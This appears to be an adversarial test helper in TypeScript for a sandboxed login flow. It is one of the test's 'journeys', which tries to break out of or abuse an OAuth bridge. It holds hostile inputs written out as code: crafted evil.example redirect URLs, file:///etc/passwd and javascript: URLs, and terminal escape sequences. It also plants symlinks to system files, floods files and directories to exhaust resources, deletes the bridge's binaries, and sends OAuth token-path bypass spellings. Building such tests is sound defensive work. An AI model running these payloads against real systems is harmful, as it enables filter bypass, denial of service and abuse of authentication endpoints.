// A hostile tool, for journeys: runs inside, from the checkout, and does to what there is of a login whatever it can think of. What
// it got it leaves in the checkout, where the test looks for what should never be in it.

import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { connect as connectHttp2 } from "node:http2";
import { createServer } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { connect } from "node:tls";

const host = "platform.claude.com";
const asked = "/run/postern/asked";

/** Whatever fails is as good as done. */
function tried(work: () => void): void {
  try {
    work();
  } catch {
    // walls
  }
}

/** In the bridge's directory: links out, pipes, sockets, trees nobody may enter, a flood, names that say something; then its own mode. */
async function bridge(canary: string): Promise<void> {
  const page = "https://evil.example/?redirect_uri=http%3A%2F%2Flocalhost%3A45454%2F";
  for (const text of [page, "file:///etc/passwd", `--help ${page}`, "javascript:alert(1)", "\u001b]0;owned\u0007"])
    tried(() => execFileSync("xdg-open", [text]));
  tried(() => execFileSync("xdg-open", [`https://claude.ai:8443/?redirect_uri=http%3A%2F%2Flocalhost%3A45455%2F`]));
  tried(() =>
    execFileSync("xdg-open", [`https://claude.ai@evil.example/?redirect_uri=http%3A%2F%2Flocalhost%3A45456%2F`]),
  );
  await pause(1000);
  tried(() => symlinkSync(canary, `${asked}/link`));
  tried(() => symlinkSync("/etc/passwd", `${asked}/passwd`));
  tried(() => symlinkSync("/", `${asked}/root`));
  tried(() => linkSync(`${process.cwd()}/linked`, `${asked}/hard`));
  tried(() => execFileSync("mkfifo", [`${asked}/pipe`]));
  tried(() => createServer().listen(`${asked}/socket`));
  tried(() => {
    writeFileSync(`${asked}/huge`, "");
    truncateSync(`${asked}/huge`, 1e12);
  });
  tried(() => {
    mkdirSync(`${asked}/closed/below`, { recursive: true });
    writeFileSync(`${asked}/closed/below/file`, "");
    chmodSync(`${asked}/closed/below`, 0);
    chmodSync(`${asked}/closed`, 0);
  });
  tried(deep);
  tried(() => writeFileSync(`${asked}/\u001b[2J\n`, `${page}\n`));
  for (let at = 0; at < 500; at += 1) tried(() => writeFileSync(`${asked}/flood-${at}`, `${page}&${at}\n`));
  for (const name of ["bin/xdg-open", "bin", "asked", ""]) {
    tried(() => renameSync(`/run/postern/${name}`, `/run/postern/${name}.old`));
    tried(() => rmSync(`/run/postern/${name}`, { recursive: true, force: true }));
    tried(() => writeFileSync(`/run/postern/${name}`, "#!/bin/sh\n"));
  }
  await pause(1500);
  for (const mode of [0, 0o500, 0o300]) {
    tried(() => chmodSync(asked, mode));
    await pause(700);
  }
}

/** Directories to a depth no path can name. */
function deep(): void {
  const home = process.cwd();
  process.chdir(asked);
  for (let level = 0; level < 3000; level += 1) {
    mkdirSync("d");
    process.chdir("d");
  }
  process.chdir(home);
}

const form = "application/x-www-form-urlencoded";
const body = (grant: string): string => `grant_type=${grant}&refresh_token=none&code=c&code_verifier=v&client_id=c`;

/** What stands after the method, and which host the request names. */
const spellings: readonly (readonly [target: string, host: string])[] = [
  ["/v1/oauth/%74oken", host],
  ["/v1/oauth/%2574oken", host],
  ["/v1/oauth//token", host],
  ["//v1/oauth/token", host],
  ["/v1/oauth/./token", host],
  ["/v1/oauth/x/../token", host],
  ["/v1/oauth/x/%2e%2e/token", host],
  ["/v1/oauth/token/", host],
  ["/v1/oauth/token/.", host],
  ["/V1/OAuth/Token", host],
  ["/v1/oauth/token?x=1", host],
  ["/v1/oauth/token?", host],
  ["/v1/oauth/token;v=1", host],
  ["/v1/oauth%2Ftoken", host],
  ["/v1/oauth\\token", host],
  ["/v1/oauth/token%20", host],
  ["/v1/oauth/token%00", host],
  ["/v1/oauth/token#x", host],
  ["/v1/oauth/token", "PLATFORM.Claude.com"],
  ["/v1/oauth/token", `${host}.`],
  ["/v1/oauth/token", `${host}:443`],
  [`https://${host}/v1/oauth/token`, host],
  [`https://${host}/v1/oauth/%74oken`, host],
  [`https://PLATFORM.claude.com./v1/oauth/%74oken`, host],
  [`HTTPS://${host}:443//v1/oauth/token`, host],
];

async function spell(): Promise<void> {
  for (const grant of ["authorization_code", "password", "client_credentials"])
    for (const [target, name] of spellings)
      for (const [version, way] of [
        ["1", byHttp1],
        ["2", byHttp2],
      ] as const)
        appendFileSync("got", `\n== ${version} ${grant} ${target} ${name}\n${await way(target, name, body(grant))}\n`);
  for (const [version, way] of [
    ["1", byHttp1],
    ["2", byHttp2],
  ] as const)
    appendFileSync("got", `\n== plain ${version}\n${await way("/elsewhere", host, "")}\n`);
}

function byHttp1(target: string, name: string, text: string): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const socket = connect({ host: name.replace(/:.*/, ""), port: 443, servername: host, ALPNProtocols: ["http/1.1"] });
  let got = "";
  socket.on("data", (chunk: Buffer) => (got += chunk.toString("latin1")));
  socket.on("error", () => resolve(got));
  socket.on("close", () => resolve(got));
  socket.setTimeout(15_000, () => socket.destroy());
  socket.write(
    `POST ${target} HTTP/1.1\r\nHost: ${name}\r\nContent-Type: ${form}\r\nContent-Length: ${text.length}\r\nConnection: close\r\n\r\n${text}`,
  );
  return promise;
}

async function byHttp2(target: string, name: string, text: string): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>();
  const session = connectHttp2(`https://${host}`);
  let got = "";
  session.on("error", () => resolve(got));
  const stream = session.request({ ":method": "POST", ":path": target, ":authority": name, "content-type": form });
  stream.on("response", (headers) => (got += JSON.stringify(headers)));
  stream.on("data", (chunk: Buffer) => (got += chunk.toString("latin1")));
  stream.on("error", () => resolve(got));
  stream.on("close", () => resolve(got));
  stream.setTimeout(15_000, () => stream.close());
  stream.end(text);
  const all = await promise;
  session.destroy();
  return all;
}

async function alive(): Promise<void> {
  await fetch("https://api.anthropic.com/alive", { method: "POST" });
}

const [mode, argument = ""] = process.argv.slice(2);
if (mode === "bridge") await bridge(argument);
else await spell();
await alive();
if (mode === "bridge") while (!existsSync("end")) await pause(20);
process.exit(7);
